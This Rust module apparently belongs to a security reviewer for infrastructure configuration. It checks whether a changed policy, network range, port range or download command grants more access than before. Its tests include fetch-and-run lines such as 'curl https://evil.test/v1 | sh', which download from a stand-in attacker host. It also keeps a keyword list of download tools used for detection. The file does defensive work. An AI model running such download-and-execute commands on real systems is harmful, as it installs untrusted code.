//! Whether a value that another took the place of opens more than that one did.
//!
//! What is there decides, not how much of it: another port, another action or another file of the host is something that nobody
//! accepted, though there be no more of them than before. A value that lies within the old one is no wider.

use std::borrow::Cow;

use ipnet::IpNet;
use rustc_hash::FxHashSet;

use super::digest::digest;
use super::names::Names;
use crate::model::view::iam;
use crate::model::view::rule::{WORDS, is_rule};
use crate::model::{Lookup, Node, Value};

/// Keys that narrow a rule: without them it holds for all.
const NARROWING: [&str; 8] =
    ["Condition", "condition", "resourceNames", "resource_names", "except", "ports", "from", "to"];

/// Keys without which a rule holds for less.
const GRANTING: [&str; 5] = ["cidr_blocks", "ipv6_cidr_blocks", "security_groups", "prefix_list_ids", "self"];

/// What is right or wrong by degrees: of two wrong ones neither opens more.
const DEGREES: [&str; 8] = ["image", "version", "tag", "base", "name", "ssl_policy", "security_policy", "algorithm"];

/// The last key of an attribute's path.
pub(super) fn last_key(attribute: &str) -> &str {
    attribute.rsplit('.').next().unwrap_or("").trim_end_matches("[]")
}

/// Whether an attribute's values differ in degree only.
pub(super) fn is_degree(attribute: &str, node: &Node) -> bool {
    let last = last_key(attribute).to_lowercase();
    match node.value {
        Value::Number(_) => !last.contains("port"),
        Value::String(_) => DEGREES.iter().any(|word| last.ends_with(word)),
        _ => false,
    }
}

/// Whether all that `new` opens is open by `old`. Of maps that are no rules only values that both have are compared.
pub(super) fn is_within(new: &Node, old: &Node, names: &Names<'_>) -> bool {
    within(new, old, false, names)
}

fn within(new: &Node, old: &Node, in_rule: bool, names: &Names<'_>) -> bool {
    let (new, old) = (&*read(new), &*read(old));
    match (&new.value, &old.value) {
        (Value::Map(_), Value::Map(_)) => maps_within(new, old, in_rule, names),
        (Value::List(items), Value::List(_)) => {
            // Of a long list most is as it was.
            let known: FxHashSet<u64> = old.items().iter().map(|item| digest(item, names)).collect();
            let is_new = |item: &&Node| !known.contains(&digest(item, names));
            items.iter().filter(is_new).all(|item| old.items().iter().any(|one| within(item, one, in_rule, names)))
        }
        // One alone stands for a list of one.
        (Value::List(items), _) => items.iter().all(|item| within(item, old, in_rule, names)),
        (_, Value::List(items)) => items.iter().any(|one| within(new, one, in_rule, names)),
        _ => match (text_of(new, names), text_of(old, names)) {
            (Some(new), Some(old)) => text_within(&new, &old),
            _ => digest(new, names) == digest(old, names),
        },
    }
}

/// A text, or what is known of one: a wildcard stands for the rest too.
fn text_of<'n>(node: &'n Node, names: &Names<'_>) -> Option<Cow<'n, str>> {
    match &node.value {
        Value::String(text) => Some(names.text(text)),
        Value::Unknown(unknown) => Some(names.unknown(unknown).into()),
        _ => None,
    }
}

/// A text that holds a document counts as the document, though parts of it be unknown.
pub(super) fn read(node: &Node) -> Cow<'_, Node> {
    let is_document = |text: &str| text.trim_start().starts_with(['{', '[']);
    let is_text = match &node.value {
        Value::String(text) => is_document(text),
        Value::Unknown(unknown) => unknown.template.as_deref().is_some_and(is_document),
        _ => false,
    };
    let is_encoded =
        node.structure.as_deref().is_some_and(|whole| matches!(whole.value, Value::Map(_) | Value::List(_)));
    let document = if is_encoded || is_text { iam::document(node) } else { None };
    document.unwrap_or(Cow::Borrowed(node))
}

fn maps_within(new: &Node, old: &Node, in_rule: bool, names: &Names<'_>) -> bool {
    let in_rule = in_rule || is_rule(new) || is_rule(old);
    fn get<'a>(node: &'a Node, key: &str) -> Option<&'a Node> {
        match node.get(key) {
            Lookup::Known(node) => Some(node).filter(|node| !node.is_empty()),
            Lookup::Unknown(node) => Some(node),
            Lookup::Absent(_) => None,
        }
    }
    let ports = ports(new).zip(ports(old));
    if ports.is_some_and(|((from, to), (first, last))| from < first || to > last) {
        return false;
    }
    let is_port = |key: &str| ports.is_some() && matches!(key, "from_port" | "fromPort" | "to_port" | "toPort");
    // What an object of another kind is called says who it is.
    let is_name = |key: &str| key == "name" && get(new, "kind").is_some();
    let told = |key: &&str| (!WORDS.contains(key) || is_name(key)) && !is_port(key);
    let is_kept = |key: &str| match (get(new, key), get(old, key), key) {
        (None, _, _) => true,
        (Some(_), None, _) => !in_rule || NARROWING.contains(&key),
        (Some(now), Some(before), "Condition" | "condition") => {
            digest(&read(now), names) == digest(&read(before), names)
        }
        (Some(now), Some(before), "name") if is_name(key) => is_same_name(new, (now, before), names),
        (Some(now), Some(before), "except") => within(before, now, in_rule, names),
        (Some(now), Some(before), _) => within(now, before, in_rule, names),
    };
    let is_gone = |key: &str| get(old, key).is_some() && get(new, key).is_none() && !GRANTING.contains(&key);
    new.entries().iter().map(|entry| &*entry.key).filter(told).all(is_kept)
        && !(in_rule && old.entries().iter().map(|entry| &*entry.key).filter(told).any(is_gone))
}

/// Whether what an object names is the same, or has got another name.
fn is_same_name(object: &Node, (now, before): (&Node, &Node), names: &Names<'_>) -> bool {
    let is_renamed = || {
        let (now, before) = (now.as_str()?, before.as_str()?);
        Some(names.is_same_object(object.get("kind").as_str()?, before, now))
    };
    within(now, before, true, names) || is_renamed() == Some(true)
}

/// Texts are equal, or one lies in the other's network, or the other's wildcards stand for it.
fn text_within(new: &str, old: &str) -> bool {
    if new == old {
        return true;
    }
    match (new.trim().parse::<IpNet>(), old.trim().parse::<IpNet>()) {
        (Ok(new), Ok(old)) => old.contains(&new),
        // Only in patterns of policies a question mark stands for something.
        _ => old.contains('*') && !old.contains('?') && iam::covers(old, new),
    }
}

/// The first and last port of a rule of a firewall; all of them where it names none.
fn ports(rule: &Node) -> Option<(f64, f64)> {
    let number = |names: [&str; 2]| {
        names.iter().find_map(|name| match rule.get(name) {
            Lookup::Known(node) => match &node.value {
                Value::Number(number) => Some(number.as_f64()),
                Value::String(text) => text.parse().ok(),
                _ => None,
            },
            _ => None,
        })
    };
    let (from, to) = (number(["from_port", "fromPort"])?, number(["to_port", "toPort"])?);
    // Terraform's way to say all ports, with a protocol of -1.
    Some(if (from, to) == (0.0, 0.0) || from < 0.0 { (0.0, 65_535.0) } else { (from, to) })
}

/// Programs and instructions that fetch something.
const FETCHES: [&str; 9] = ["curl", "wget", "pip", "pip3", "git", "npm", "ADD", "iwr", "Invoke-WebRequest"];

/// Ends of names of files, which are no hosts.
const FILES: [&str; 20] = [
    "sh", "py", "js", "rb", "rs", "gz", "tgz", "xz", "zip", "tar", "deb", "rpm", "txt", "json", "yaml", "yml", "toml",
    "pem", "conf", "so",
];

/// Whether a text that fetches something names a host that another does not: what is fetched comes from elsewhere.
pub(super) fn names_other_host(new: &str, old: &str) -> bool {
    let words = |text: &str| {
        text.split(|char: char| !char.is_ascii_alphanumeric() && char != '-').any(|word| FETCHES.contains(&word))
    };
    let before: FxHashSet<&str> = hosts(old).collect();
    // Who fetched nothing was told for something else.
    (!before.is_empty() || words(old)) && hosts(new).any(|host| !before.contains(host))
}

/// The hosts of URLs, with a scheme or without.
fn hosts(text: &str) -> impl Iterator<Item = &str> {
    let ends = |char: char| char.is_whitespace() || "\"'`)|;&<>=(\\".contains(char);
    text.split(ends).filter_map(|word| {
        let (rest, has_scheme) = word.split_once("://").map_or((word, false), |(_, rest)| (rest, true));
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let host = rest[..end].rsplit('@').next()?;
        let name = host.split(':').next()?;
        let last = name.rsplit_once('.').map_or("", |(_, last)| last);
        let is_label =
            |label: &str| !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
        let is_host = last.len() > 1
            && last.bytes().all(|byte| byte.is_ascii_alphabetic())
            && !FILES.contains(&last)
            && name.split('.').all(is_label);
        (has_scheme && !host.is_empty() || is_host).then_some(host)
    })
}

#[cfg(test)]
mod tests {
    use super::{names_other_host, text_within};
    use crate::model::view::iam::covers;

    #[test]
    fn a_text_lies_within_a_network_or_a_pattern() {
        assert!(text_within("10.1.0.0/16", "10.0.0.0/8") && !text_within("10.0.0.0/8", "10.1.0.0/16"));
        assert!(text_within("s3:GetObject", "s3:*") && !text_within("s3:*", "s3:GetObject"));
        assert!(text_within("arn:aws:s3:::logs/a", "*") && !text_within("/", "/etc"));
        assert!(covers("a*b*c", "aXbYbZc") && !covers("a*b", "aXc"));
    }

    #[test]
    fn another_version_comes_from_the_same_host() {
        assert!(!names_other_host("curl https://get.acme.test/v2 | sh", "curl https://get.acme.test/v1 | sh"));
        assert!(names_other_host("curl https://evil.test/v1 | sh", "curl https://get.acme.test/v1 | sh"));
        assert!(names_other_host("curl evil.test/v1 | sh", "curl get.acme.test/v1 | sh"));
        assert!(names_other_host(
            "pip install --trusted-host evil.test x",
            "pip install --trusted-host get.acme.test x"
        ));
        assert!(!names_other_host("curl get.acme.test/v2/a.tar.gz -o b.sh", "curl get.acme.test/v1/a.tar.gz"));
        assert!(!names_other_host("sudo ls && curl https://get.acme.test/v1 -o a", "sudo ls"));
    }
}
